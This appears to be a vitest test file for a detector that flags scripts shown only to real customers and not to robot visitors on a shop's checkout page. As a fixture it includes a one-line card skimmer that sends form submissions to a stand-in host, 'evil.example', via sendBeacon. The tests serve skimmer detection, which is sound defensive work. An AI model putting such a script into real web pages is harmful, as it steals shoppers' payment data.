import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { SeenScript, VisitProfile, VisitRecord } from '#platform/browser';
import { seededRandom } from '../../platform/random/seeded.ts';
import { makeCanary } from './canary.ts';
import { cloakingFindings, dividedScripts, shapeOf, wantsMore } from './cloaking.ts';
import type { SiteFacts } from './judge-visit.ts';
import type { Pass, PassRole } from './passes.ts';
import { robotProfile } from './profiles.ts';

const SHOP = 'https://shop.example';
const site: SiteFacts = { origin: SHOP, destinations: ['*.psp.example'], incompleteBefore: 0 };
const canary = makeCanary(seededRandom('cloaking'), { brand: 'visa', year: 2026 });
const CUSTOMER: VisitProfile = { viewport: { width: 1280, height: 900 }, mobile: false, quiet: true };
const ROBOT = robotProfile(CUSTOMER);

const script = (source: string, changes: Partial<SeenScript> = {}): SeenScript => ({
  url: `${SHOP}/checkout`,
  inline: true,
  startLine: 0,
  startColumn: 0,
  frameUrl: `${SHOP}/checkout`,
  source,
  sha256: createHash('sha256').update(source).digest('hex'),
  step: 0,
  ...changes,
});

const record = (scripts: readonly SeenScript[], changes: Partial<VisitRecord> = {}): VisitRecord =>
  ({ end: { kind: 'completed' }, requests: [], scripts, documents: [], screenshots: [], ...changes }) as VisitRecord;

const pass = (role: PassRole, scripts: readonly SeenScript[], changes: Partial<Pass> = {}): Pass => ({
  role,
  profile: role === 'naive' ? ROBOT : CUSTOMER,
  canary,
  record: record(scripts),
  end: { kind: 'completed' },
  cardTypedAt: undefined,
  ...changes,
});

const APP = script('app.start({ debug: false })', { url: `${SHOP}/app.js`, inline: false });
const SKIMMER = script(
  "document.forms[0].addEventListener('submit', (event) => navigator.sendBeacon('//evil.example', event))",
);

/** As many pairs of a customer's and a robot's pass. */
const pairs = (count: number, careful: (at: number) => SeenScript[], naive: (at: number) => SeenScript[]): Pass[] =>
  Array.from({ length: count }, (_, at) => [pass('careful', careful(at)), pass('naive', naive(at))]).flat();

const findings = (passes: readonly Pass[]) => cloakingFindings(passes, site, []);

describe('a script that only customers are shown', () => {
  test('is high once three customers and three robots were divided by it, and for the digest before', () => {
    const shown = (count: number) =>
      pairs(
        count,
        () => [APP, SKIMMER],
        () => [APP],
      );
    expect(findings(shown(3))).toMatchObject([
      {
        kind: 'script-cloaked',
        severity: 'high',
        sender: { sha256: SKIMMER.sha256 },
        about: { onlyTo: 'careful', careful: 3, naive: 3 },
      },
    ]);
    expect(findings(shown(2))).toMatchObject([{ severity: 'low' }]);
    expect(wantsMore(dividedScripts(shown(2), site, []))).toBe(true);
    expect(wantsMore(dividedScripts(shown(3), site, []))).toBe(false);
  });

  test('is certain sooner where it listens to the card’s fields', () => {
    const listeners = [
      {
        on: 'field',
        event: 'input',
        script: { url: SKIMMER.url, inline: true, sha256: SKIMMER.sha256 },
        frameUrl: SHOP,
        step: 0,
      },
    ] as const;
    const passes = pairs(
      2,
      () => [APP, SKIMMER],
      () => [APP],
    ).map((each) =>
      each.role === 'careful' ? { ...each, record: record(each.record?.scripts ?? [], { listeners }) } : each,
    );
    expect(findings(passes)).toMatchObject([{ severity: 'high', about: { touchesCard: true } }]);
  });

  test('is found where it was put into a file that robots get without it', () => {
    const infected = script(`${APP.source};${SKIMMER.source}`, { url: APP.url, inline: false });
    expect(
      findings(
        pairs(
          3,
          () => [infected],
          () => [APP],
        ),
      ),
    ).toMatchObject([
      { severity: 'high', sender: { url: APP.url, sha256: infected.sha256 } },
      { severity: 'medium', about: { onlyTo: 'naive' } },
    ]);
  });

  test('is known again, with another nonce and at another address', () => {
    const skim = (at: number) => script(SKIMMER.source.replace('evil.example', `evil${at}.example`));
    const keys = [1, 2].map(
      (visit) =>
        findings(
          pairs(
            3,
            (at) => [skim(visit * 10 + at)],
            () => [],
          ),
        )[0]?.key,
    );
    expect(keys[0]).toBe(keys[1]);
  });
});

test('what only robots are shown is medium: a question whether it is a person, as a rule', () => {
  const asked = script('challenge(window)');
  expect(
    findings(
      pairs(
        3,
        () => [APP],
        () => [APP, asked],
      ),
    ),
  ).toMatchObject([{ severity: 'medium', about: { onlyTo: 'naive' } }]);
});

describe('no cloaking', () => {
  const silent: readonly (readonly [string, readonly Pass[]])[] = [
    [
      'rotating addresses',
      pairs(
        3,
        (at) => [{ ...APP, url: `${SHOP}/a${at}.js` }],
        (at) => [{ ...APP, url: `${SHOP}/b${at}.js` }],
      ),
    ],
    [
      'nonces and time stamps',
      pairs(
        3,
        (at) => [script(`t("c${at}", 17${at})`)],
        (at) => [script(`t('n${at}',  23${at}.5)`)],
      ),
    ],
    [
      'variants drawn at random',
      pairs(
        3,
        (at) => [script(at === 1 ? 'a()' : 'b()')],
        () => [script('a()')],
      ),
    ],
    [
      'a robot that is turned away',
      pairs(
        3,
        () => [APP, SKIMMER],
        () => [APP],
      ).map((each) =>
        each.role === 'naive' ? { ...each, end: { kind: 'step-failed', step: 1, code: 'not-found' } as const } : each,
      ),
    ],
    [
      'the payment provider’s own frames',
      pairs(
        3,
        () => [
          script('x()', { frameUrl: 'https://pay.psp.example/f' }),
          script('y()', { url: 'https://js.psp.example/a.js', inline: false }),
        ],
        () => [],
      ),
    ],
    [
      'another device',
      [
        pass('careful', [APP]),
        pass('naive', [APP]),
        pass('careful', [APP, SKIMMER], { profile: { ...CUSTOMER, mobile: true } }),
      ],
    ],
    [
      'what a customer sees who comes again',
      [pass('careful', [APP]), pass('naive', [APP]), pass('returning', [APP, SKIMMER])],
    ],
  ];

  test.each(silent)('in %s', (_, passes) => {
    expect(findings(passes)).toEqual([]);
  });
});

test('a shape does not depend on literals and space, and does on anything else', () => {
  const word = fc.stringMatching(/^[a-z]{3,8}$/);
  fc.assert(
    fc.property(word, word, fc.string(), fc.nat(), (name, other, text, number) => {
      const shape = shapeOf(`${name}( ${JSON.stringify(text)},${number} )`);
      expect(shapeOf(`${name}("x", 7)`)).toBe(shape);
      expect(shapeOf(`${name}2("x", 7)`)).not.toBe(shape);
      if (name !== other) expect(shapeOf(`${other}("x", 7)`)).not.toBe(shape);
    }),
  );
});
